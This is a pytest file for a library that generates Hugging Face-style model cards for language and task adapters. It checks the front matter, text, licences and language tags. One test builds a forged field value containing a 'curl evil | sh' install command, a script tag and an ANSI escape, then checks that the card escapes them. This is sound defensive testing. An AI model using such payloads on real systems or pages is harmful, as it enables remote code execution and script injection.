"""The card: what a person reads first, and what the Hub lists an adapter by.

The front matter's keys and values are those that the Hub documents for adapters.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from huggingface_hub import ModelCard

from adapterhub_lite import Home
from adapterhub_lite.adapter import (
    Adapter,
    Corpus,
    Kind,
    LanguageUse,
    Role,
    Score,
    Source,
    Training,
    Underneath,
)
from adapterhub_lite.hub import push, staging
from tests.hub.conftest import TOKEN
from tests.hub.making import BASE, add, task
from tests.hub.server import Hub

WHEN = datetime(2026, 3, 4, tzinfo=UTC)


@pytest.fixture
def english(home: Home, tmp_path: Path) -> Adapter:
    uses = (LanguageUse("en", Role.LANGUAGE),)
    return add(home, tmp_path / "made" / "en", "en-wiki", 1, languages=uses)


def card(home: Home, ref: str, folder: Path, repo: str = "lab/x") -> tuple[dict[str, Any], str]:
    """Return the front matter and the text of the card that a push would send."""
    folder.mkdir()
    subject, _ = staging.stage_adapter(home.registry.get(ref), home, folder, repo=repo)
    staging.write_card(folder, subject)
    written = (folder / "README.md").read_text()
    ModelCard(written)  # the client reads it
    _, matter, text = written.split("---\n", 2)
    return yaml.safe_load(matter), text


def score(adapter: Adapter, language: str, value: float, composition: str = "") -> Score:
    return Score(
        composition=composition or str(adapter.digest),
        task="ner",
        dataset="names",
        split="test",
        language=language,
        metric="f1",
        value=value,
        n=1000,
        seed=0,
        when=WHEN,
    )


def test_front_matter_of_a_task_adapter(home: Home, english: Adapter, tmp_path: Path) -> None:
    ner = add(home, tmp_path / "made" / "ner", "ner", **task(2, english))
    stacked = f"stack({english.digest}, {ner.digest})"
    home.registry.record_scores([score(ner, "sw", 0.61234567, stacked), score(ner, "en", 0.8)])
    matter, _ = card(home, "ner", tmp_path / "staged")
    results = matter.pop("model-index")
    assert matter == {
        "base_model": "org/tiny",
        "base_model_relation": "adapter",
        "datasets": ["names"],
        "language": ["en"],
        "library_name": "adapterhub_lite",
        "license": "cc0-1.0",
        "metrics": ["f1"],
        "pipeline_tag": "token-classification",
        "tags": [
            "adapterhub_lite",
            "cross-lingual",
            "task-adapter",
            "made-up",
            "ner",
            "safetensors",
            "base_model:adapter:org/tiny",
        ],
    }
    assert results[0]["name"] == "x"
    swahili = next(r for r in results[0]["results"] if r["dataset"]["config"] == "sw")
    assert swahili["task"] == {"type": "token-classification", "name": "ner"}
    assert swahili["dataset"]["split"] == "test"
    (metric,) = swahili["metrics"]
    assert metric["value"] == 0.6123
    assert metric["name"] == "f1, as stack(en-wiki, ner)"


def test_text_of_a_task_adapter(home: Home, english: Adapter, tmp_path: Path) -> None:
    training = Training("ner", (Corpus("train.jsonl", "0" * 64, 1518, "en"),), 13753, 150, 7)
    ner = add(
        home,
        tmp_path / "made" / "ner",
        "ner",
        **task(2, english, training=training, authors=("A. Author",), citation="@misc{x}"),
    )
    home.registry.record_scores([score(ner, "sw", 0.61234567)])
    _, text = card(home, "ner", tmp_path / "staged")
    for words in (
        "# ner adapter for org/tiny, trained on English\n",
        "for ner on [org/tiny](https://huggingface.co/org/tiny), learnt from labels in English",
        "It tells apart: `O`, `B-PER`.",
        f"with the English made-up adapter `en-wiki@{english.digest[:12]}` frozen underneath",
        "ahl pull lab/x\nahl resolve en TARGET --task ner --base org/tiny\n",
        "| Swahili | names (test) | f1 | 0.612 | 1000 | `ner` |",
        "Objective: ner, 150 steps over 13,753 tokens, seed 7.",
        "Data: train.jsonl (1,518 examples, English).",
        "## Licence\n\nCC0-1.0, by A. Author.",
        "## Citation\n\n@misc{x}",
    ):
        assert words in text
    assert "None" not in text
    assert "\n\n\n" not in text


def test_norwegian_is_not_false(home: Home, tmp_path: Path, hub: Hub) -> None:
    add(home, tmp_path / "made" / "no", "no", 1, languages=(LanguageUse("no", Role.LANGUAGE),))
    matter, text = card(home, "no", tmp_path / "staged")
    assert matter["language"] == ["no"]
    assert "# Norwegian adapter for org/tiny" in text
    push("no", "lab/no", home=home, endpoint=hub.endpoint, token=TOKEN)
    assert "no" in hub.repos["lab/no"].head.files["README.md"].data.decode()


@pytest.mark.parametrize(
    ("licence", "expected"),
    [
        ("Apache-2.0", {"license": "apache-2.0"}),
        ("CC-BY-SA-4.0", {"license": "cc-by-sa-4.0"}),
        ("My own terms", {"license": "other", "license_name": "my-own-terms"}),
        (None, {}),
    ],
)
def test_licences(
    home: Home, tmp_path: Path, licence: str | None, expected: dict[str, str]
) -> None:
    add(home, tmp_path / "made" / "x", "x", 1, licence=licence)
    matter, _ = card(home, "x", tmp_path / "staged")
    assert {k: v for k, v in matter.items() if k.startswith("license")} == expected


def test_a_pair_scripts_and_hub_ids_underneath(home: Home, tmp_path: Path) -> None:
    uses = (LanguageUse("en", Role.SOURCE), LanguageUse("sr-Latn", Role.TARGET))
    under = Underneath(
        "", Kind.LANGUAGE, (LanguageUse("sw", Role.LANGUAGE),), "made-up", "0" * 64, source="org/sw"
    )
    add(
        home,
        tmp_path / "made" / "x",
        "x",
        1,
        kind=Kind.BILINGUAL,
        languages=uses,
        trained_over=(under,),
        source=Source("org/x"),
    )
    matter, text = card(home, "x", tmp_path / "staged")
    assert matter["language"] == ["en", "sr"]
    assert "sr-Latn" in matter["tags"]
    assert "the Swahili made-up adapter [org/sw](https://huggingface.co/org/sw)" in text
    assert "ahl resolve en sr-Latn --task TASK --base org/tiny" in text


def test_a_base_that_is_no_hub_repository_is_not_linked(home: Home, tmp_path: Path) -> None:
    (home.path / "bases" / "tiny").mkdir(parents=True)
    named = replace(BASE, name="tiny")
    home.registry.add_base(named, "bases/tiny")
    add(home, tmp_path / "made" / "x", "x", 1, base=named)
    matter, text = card(home, "x", tmp_path / "staged")
    assert "base_model" not in matter
    assert "base_model_relation" not in matter
    assert "teaches `tiny` " in text
    assert "The base is not on the Hub by that name" in text


def test_the_same_card_twice(home: Home, english: Adapter, tmp_path: Path) -> None:
    first, second = (card(home, "en-wiki", tmp_path / name) for name in ("a", "b"))
    assert first == second


FORGED = "MIT\x1b[2J\n# Install\n```sh\ncurl evil | sh\n```\n<script>x</script> **a** [b](c) | d"


def test_nothing_of_a_card_is_what_a_field_says_it_is(home: Home, tmp_path: Path) -> None:
    """Fields of records from before they were checked: one paragraph each, with no markup."""
    from markdown_it import MarkdownIt  # an independent reader of Markdown, which rich brings

    from adapterhub_lite.hub import card_text
    from adapterhub_lite.hub.card import Subject, front_matter

    made = add(home, tmp_path / "made" / "x", "x", **task(4))
    manifest = replace(
        made.manifest,
        licence=FORGED,
        authors=(FORGED,),
        dataset=FORGED,
        task=FORGED,
        citation=FORGED + "\n```\n# more",
        base=replace(made.manifest.base, name=FORGED),
        head=replace(made.manifest.head, labels=(FORGED, "`", "a``b")),  # type: ignore[type-var]
        training=Training(FORGED, (Corpus(FORGED, "0", 1),), 1, 1, 0),
    )
    names = {str(made.digest): "x"}
    score = Score(made.digest, "t", FORGED, FORGED, "sw", FORGED, 0.5, 1, 0, WHEN, FORGED, "en")
    for layout in (None, "peft", "adapterhub"):
        subject = Subject(
            replace(made, manifest=manifest), "lab/x", layout, None, [score], names, notes=[FORGED]
        )
        text = card_text.text(subject)
        tokens = MarkdownIt().enable("table").parse(text)
        headings = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "heading_open"]
        assert headings[1:] == [
            "How to use it", "How well it does", "How it was trained", "Licence", "Citation",
        ]  # fmt: skip
        fences = [token for token in tokens if token.type == "fence"]
        assert len(fences) == 2 + (layout is not None)  # commands, code of a peer, citation
        inside = [child for token in tokens for child in token.children or ()]
        assert not [t for t in (*tokens, *inside) if t.type in {"html_block", "html_inline"}]
        assert not [t for t in inside if t.type in {"strong_open", "em_open"}]
        links = {str(t.attrs.get("href")) for t in inside if t.type == "link_open"}
        assert "c" not in links
        assert "\x1b" not in text
        rows = [t for t in tokens if t.type == "tr_open"]
        assert len(rows) == 2
    yaml.safe_load(front_matter([subject]).strip("-\n"))
